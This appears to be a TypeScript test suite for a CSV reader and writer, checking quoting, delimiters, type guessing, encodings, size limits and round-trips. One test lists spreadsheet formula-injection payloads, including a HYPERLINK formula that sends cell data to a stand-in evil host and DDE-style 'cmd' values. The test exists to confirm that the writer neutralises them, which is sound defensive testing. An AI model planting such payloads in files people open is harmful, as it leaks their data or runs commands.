import { toFileValue, type FileValue } from '@weft/connector-kit';
import { createTestBench, NASTY_NAMES, NASTY_TEXTS } from '@weft/connector-kit/testing';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csv } from './index.ts';

const bench = createTestBench({ connector: csv });
const read = async (source: unknown, more: Record<string, unknown> = {}) =>
  (await bench.run('parse', { source, ...more })) as { rows: unknown[]; count: number; columns: string[] };
const write = async (items: unknown, more: Record<string, unknown> = {}) =>
  (await bench.run('write', { items, ...more })) as { text: string; count: number; columns: string[]; file: FileValue | null };

describe('reading CSV', () => {
  test('cells are text as they stand; quotes, delimiters and line ends inside them belong to them', async () => {
    const text = 'id,name,note\r\n007,"Acme, ""the"" Ltd","two\nlines"\n8,  Zoë ,\r9,,"a\r\nb"\n\n';
    expect(await read(text)).toEqual({
      rows: [
        { id: '007', name: 'Acme, "the" Ltd', note: 'two\nlines' },
        { id: '8', name: '  Zoë ', note: '' },
        { id: '9', name: '', note: 'a\r\nb' },
      ],
      count: 3,
      columns: ['id', 'name', 'note'],
    });
  });

  test('the delimiter is what the first line has most of, outside quotes', async () => {
    for (const [text, delimiter] of [
      ['a;b\n1,5;2', 'auto'],
      ['a\tb\n1,5\t2', 'auto'],
      ['a|b\n1,5|2', 'auto'],
      ['"x,y,z;",a;b\n1,5;2', 'comma'],
    ] as const)
      expect(Object.values((await read(text, { delimiter })).rows[0] as object).at(-1)).toMatch(/2$/);
    expect((await read('"a,b,c";d\n1;2')).columns).toEqual(['a,b,c', 'd']);
    expect((await read('only\n1')).rows).toEqual([{ only: '1' }]);
  });

  test('types are guessed only where nothing is lost', async () => {
    const cells = [
      '5',
      '-5.25',
      '007',
      '1e5',
      '0.1',
      '12345678901234567890',
      '1,200',
      'true',
      'FALSE',
      '',
      ' ',
      'null',
      '-0',
      '+49',
      '1.10',
      'NaN',
    ];
    const { rows } = await read(cells.map((cell) => `"${cell}"`).join(';'), { header: 'none', types: 'guess', delimiter: 'semicolon' });
    expect(rows[0]).toEqual([
      5,
      -5.25,
      '007',
      '1e5',
      0.1,
      '12345678901234567890',
      '1,200',
      true,
      false,
      null,
      null,
      'null',
      '-0',
      '+49',
      1.1,
      'NaN',
    ]);
  });

  test('names of columns are mended, given, or not there', async () => {
    expect((await read('name, name ,,name\n1,2,3,4')).rows).toEqual([{ name: '1', 'name 2': '2', 'column 3': '3', 'name 3': '4' }]);
    expect((await read('1,2', { header: 'given', columns: ['a', 'b'] })).rows).toEqual([{ a: '1', b: '2' }]);
    expect((await read('1,2\n3', { header: 'none' })).rows).toEqual([['1', '2'], ['3']]);
    await expect(read('1,2', { header: 'given' })).rejects.toThrow('Columns: must be given.');
    expect(await read('a,b')).toEqual({ rows: [], count: 0, columns: ['a', 'b'] });
  });

  test('dangerous names are names', async () => {
    const { rows } = await read('__proto__,constructor\n1,2');
    expect(Object.entries(rows[0] as object)).toEqual([
      ['__proto__', '1'],
      ['constructor', '2'],
    ]);
    expect(Object.getPrototypeOf(rows[0])).toBe(Object.prototype);
  });

  test('a byte order mark, an encoding and lines before the header', async () => {
    const bytes = Buffer.from('Report of May\nname;city\nZo\xeb;M\xfcnchen', 'latin1');
    const file = toFileValue({ name: 'a.csv', mediaType: 'text/csv', bytes });
    expect((await read(file, { encoding: 'windows-1252', skipLines: 1 })).rows).toEqual([{ name: 'Zoë', city: 'München' }]);
    expect((await read('\uFEFF"name"\nx')).columns).toEqual(['name']);
  });

  test.each([
    ['a,b\n1,2\n3\n', 'Line 3 has 1 cell, but there are 2 columns.'],
    ['a,b\n1,2,3\n', 'Line 2 has 3 cells, but there are 2 columns.'],
    ['a,b\n"1,2\n3,4\n', 'The CSV cannot be read. Line 2: in the row that begins here a quote is not closed.'],
    ['a,b\n"1"x,2\n', 'The CSV cannot be read. Line 2: after the quote that ends a cell something else follows.'],
    ['a,b\n5" pipe,2\n', 'The CSV cannot be read. Line 2: a quote stands inside a cell that does not begin with one.'],
    [
      `a,b\n"${'x\n'.repeat(600_000)}`,
      'Line 2: the row that begins here has more than 1000000 characters; a quote in it may not be closed.',
    ],
  ])('%.30j is told with its line', async (text, says) => {
    await expect(read(text)).rejects.toMatchObject({ class: 'invalid', message: expect.stringContaining(says) });
  });

  test('files that are known to be so are read all the same', async () => {
    expect((await read('a,b\n1\n', { fill: true })).rows).toEqual([{ a: '1', b: '' }]);
    await expect(read('a,b\n1,2,3\n', { fill: true })).rejects.toThrow('Line 2 has 3 cells');
    expect((await read('a,b\n5" pipe,2\n', { looseQuotes: true })).rows).toEqual([{ a: '5" pipe', b: '2' }]);
    expect((await read('a , b\n 1 , "x"\n', { trim: true })).rows).toEqual([{ a: '1', b: 'x' }]);
    expect((await read("a,b\n'1,5','it''s'", { quote: 'single' })).rows).toEqual([{ a: '1,5', b: "it's" }]);
  });

  test('what is too large is refused', async () => {
    await expect(read(`${'a,'.repeat(1000)}b\n1`)).rejects.toThrow('Line 1 has 1001 cells; at most 1000 are read.');
    await expect(read('a\n'.repeat(100_003))).rejects.toThrow('The file has more than 100000 rows. Divide it.');
    expect((await read('a\n'.repeat(100_001))).count).toBe(100_000);
    await expect(read(`${',x'.repeat(999)}\n`.repeat(2100))).rejects.toThrow('more than 2 million cells');
  });
});

describe('writing CSV', () => {
  test('columns come from all records, or are chosen', async () => {
    const items = [
      { name: 'Acme, "the"', amount: 5 },
      { city: null, name: 'two\nlines', more: { a: [1] } },
    ];
    expect(await write(items)).toEqual({
      text: 'name,amount,city,more\r\n"Acme, ""the""",5,,\r\n"two\nlines",,,"{""a"":[1]}"\r\n',
      count: 2,
      columns: ['name', 'amount', 'city', 'more'],
      file: null,
    });
    const columns = [{ path: 'more.a[0]', as: 'first' }, { path: 'name' }];
    expect((await write(items, { columns, delimiter: 'semicolon', lineEnd: 'lf' })).text).toBe(
      'first;name\n;"Acme, ""the"""\n1;"two\nlines"\n',
    );
    expect((await write(items, { columns, header: false, quoteAll: true })).text).toBe('"","Acme, ""the"""\r\n"1","two\nlines"\r\n');
  });

  test('lists of cells are written as they are, and nothing as a header', async () => {
    expect(
      (
        await write([
          [1, true],
          ['x', null],
        ])
      ).text,
    ).toBe('1,true\r\nx,\r\n');
    expect((await write([])).text).toBe('');
    expect((await write([], { columns: [{ path: 'a' }] })).text).toBe('a\r\n');
    expect((await write([{ b: 1, a: 2 }], { columns: ['a', 'b'] })).text).toBe('a,b\r\n2,1\r\n');
    await expect(write([{ a: 1 }, 'x'])).rejects.toThrow('Item 2 of the list is not a record.');
    await expect(write('x')).rejects.toThrow('List: must be a list.');
  });

  test('as a file for Excel', async () => {
    const { file } = await write([{ a: 'Zoë' }], { fileName: 'a/b.csv', byteOrderMark: true });
    expect(file).toMatchObject({ name: 'b.csv', mediaType: 'text/csv; charset=utf-8' });
    expect(Buffer.from(file?.base64 ?? '', 'base64').toString()).toBe('\uFEFFa\r\nZoë\r\n');
    expect((await read(file)).rows).toEqual([{ a: 'Zoë' }]);
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example?"&A1)', '\'=HYPERLINK("http://evil.example?"&A1)'],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['+cmd|x', "'+cmd|x"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['＝1+1', "'＝1+1"],
    ['-5.25', '-5.25'],
    ['+49 (89) 1234-5', '+49 (89) 1234-5'],
    ['a=b', 'a=b'],
    ["'=1", "'=1"],
  ])('%j is no formula any more', async (cell, written) => {
    const { text } = await write([{ [cell]: cell }]);
    expect((await read(text, { header: 'none', delimiter: 'comma' })).rows).toEqual([[written], [written]]);
    expect((await read((await write([[cell]], { formulaGuard: false })).text, { header: 'none', delimiter: 'comma' })).rows).toEqual([
      [cell],
    ]);
  });
});

describe('writing and reading again', () => {
  const there = { formulaGuard: false };

  test.each(Object.entries(NASTY_TEXTS))('%s comes back as it was', async (_what, text) => {
    // UTF-8 has no halves of characters.
    const kept = text.toWellFormed();
    for (const delimiter of ['comma', 'semicolon', 'tab', 'pipe'])
      for (const quote of ['double', 'single']) {
        const { text: made } = await write([{ a: text, b: 'x' }, { a: text }], { ...there, delimiter, quote });
        expect((await read(made, { delimiter, quote })).rows).toEqual([
          { a: kept, b: 'x' },
          { a: kept, b: '' },
        ]);
      }
  });

  test.each(NASTY_NAMES)('a column called %.30j comes back', async (name) => {
    expect((await read((await write([[name], ['x']], there)).text, { delimiter: 'comma' })).columns).toEqual([name]);
  });

  test('any table comes back as it was', async () => {
    const cell = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom('"', "''", '\r', '\n', '\r\n', ',', ';', '', ' '));
    const table = fc
      .integer({ min: 1, max: 4 })
      .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }));
    await fc.assert(
      fc.asyncProperty(
        table,
        fc.constantFrom('comma', 'semicolon', 'tab', 'pipe'),
        fc.constantFrom('crlf', 'lf'),
        fc.boolean(),
        async (rows, delimiter, lineEnd, quoteAll) => {
          const { text } = await write(rows, { ...there, delimiter, lineEnd, quoteAll });
          // What is left out of the beginning of any text.
          fc.pre(!text.startsWith('\uFEFF'));
          expect((await read(text, { header: 'none', delimiter })).rows).toEqual(rows);
        },
      ),
      { numRuns: 300 },
    );
  });
});
